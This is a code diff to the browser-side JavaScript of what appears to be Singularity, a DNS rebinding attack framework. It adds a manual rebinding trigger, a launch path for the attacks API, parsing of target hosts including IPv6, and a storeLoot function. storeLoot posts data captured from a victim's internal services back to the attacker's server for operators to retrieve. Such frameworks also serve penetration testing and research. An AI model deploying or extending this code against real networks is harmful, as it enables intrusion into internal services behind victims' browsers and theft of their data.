@@ -45,18 +45,33 @@ const Rebinder = () => {
                     }
                     break;
                 case 'start':
-                    timer = setInterval(function () { run() }, interval);
-                    console.log('frame', window.location.hostname, 'waiting', interval,
-                        'milliseconds for dns update');
+                    start();
                     break;
             }
         });
     };
 
+    function start() {
+        // the manual strategy rebinds once the payload signals it is ready
+        if (hostnameElements(window.location.hostname)[3] === 'manual') {
+            fetch('/rebind', { method: 'POST', credentials: 'omit' })
+                .catch(error => console.log('could not arm rebinding: ' + error));
+        }
+        timer = setInterval(function () { run() }, interval);
+        console.log('frame', window.location.hostname, 'waiting', interval,
+            'milliseconds for dns update');
+    };
+
     function init(myUrl, myRebindingDoneFn) {
         url = myUrl;
         rebindingDoneFn = myRebindingDoneFn;
         initCommsWithParentFrame();
+        // attacks launched with the attacks API open this frame directly
+        if (window.parent === window && typeof AttackInterval !== 'undefined' && AttackInterval > 0) {
+            interval = AttackInterval * 1000;
+            start();
+            return;
+        }
         window.parent.postMessage({
             status: 'start'
         }, "*");
@@ -157,17 +172,63 @@ function timeout(ms, promise, controller) {
     })
 }
 
+// Decodes the elements of a Singularity hostname "s-<element>-...-<element>-e.<domain>",
+// where "--" is a "-" within an element, e.g. in a CNAME target.
+function hostnameElements(hostname) {
+    const start = hostname.startsWith('s-') ? 0 : hostname.indexOf('.s-') + 1;
+    const elements = [];
+    let element = '';
+    for (let i = start + 2; i < hostname.length; i++) {
+        if (hostname[i] !== '-') {
+            element += hostname[i];
+        } else if (hostname[i + 1] === '-') {
+            element += '-';
+            i++;
+        } else {
+            elements.push(element);
+            element = '';
+            if (elements.length >= 4 && hostname.startsWith('e.', i + 1)) {
+                break;
+            }
+        }
+    }
+    return elements;
+}
+
+// Decodes a host element of a Singularity hostname,
+// where the ":" of IPv6 addresses is replaced by "x", e.g. "fd00xx1" for "fd00::1".
+function decodeHostElement(element) {
+    const host = element.toLowerCase().replace(/x/g, ':');
+    if (/^[0-9a-f:.]+$/.test(host) && (host.includes('::') || host.split(':').length === 8)) {
+        return host;
+    }
+    return element;
+}
+
 function begin(url) {
     const hostnameEl = document.getElementById('hostname');
-    const arr = window.location.hostname.split('-');
-    const port = document.location.port ? document.location.port : '80';
-    hostnameEl.innerText = `target: ${arr[2]}:${port}, session: ${arr[3]}, strategy: ${arr[4]}`;
+    const arr = hostnameElements(window.location.hostname);
+    // the target may listen on another port than the attack origin, e.g. with TProxy
+    const port = typeof TargetPort !== 'undefined' ? TargetPort : (document.location.port ? document.location.port : '80');
+    hostnameEl.innerText = `target: ${decodeHostElement(arr[1])}:${port}, session: ${arr[2]}, strategy: ${arr[3]}`;
     r = Rebinder();
     r.init(url, attack);
 }
 
 function wait(n) { return new Promise(resolve => setTimeout(resolve, n)); }
 
+// Stores data captured from the target, e.g. a response body, in the Singularity server.
+// Operators retrieve it with the /api/loot management API.
+function storeLoot(data, sourceUrl) {
+    let serverIp = decodeHostElement(hostnameElements(window.location.hostname)[0]);
+    if (serverIp.includes(':')) {
+        serverIp = `[${serverIp}]`;
+    }
+    const port = document.location.port ? `:${document.location.port}` : '';
+    const url = `${document.location.protocol}//${serverIp}${port}/api/loot?url=${encodeURIComponent(sourceUrl)}`;
+    return fetch(url, { method: 'POST', body: data });
+}
+
 // Request target to establish a websocket to Singularity server and wait for commands
 // Implements retries to handle multiple answer strategy and firewall blocks.
 function webSocketHook(headers, initialCookie, wsProxyPort, retry) {